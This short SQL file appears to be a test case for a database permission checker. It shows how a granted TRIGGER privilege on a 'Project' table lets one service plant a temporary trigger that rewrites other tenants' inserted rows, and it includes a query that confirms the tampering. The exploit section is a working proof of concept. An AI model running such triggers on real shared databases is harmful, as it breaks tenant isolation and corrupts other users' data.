-- With TRIGGER the service can put its own function in the way of other tenants' writes.
-- object: public."Project"
-- base: orm
--- leak
GRANT TRIGGER ON "Project" TO {api};
--- exploit
CREATE FUNCTION pg_temp.spy() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.name := 'spied'; RETURN NEW; END $$;
CREATE TRIGGER spy BEFORE INSERT ON "Project" FOR EACH ROW EXECUTE FUNCTION pg_temp.spy();
--- victim
INSERT INTO "Project" ("organizationId", "name") VALUES ('{B}', 'fresh');
--- proof
SELECT FROM "Project" WHERE name = 'spied' AND "organizationId" = '{B}';
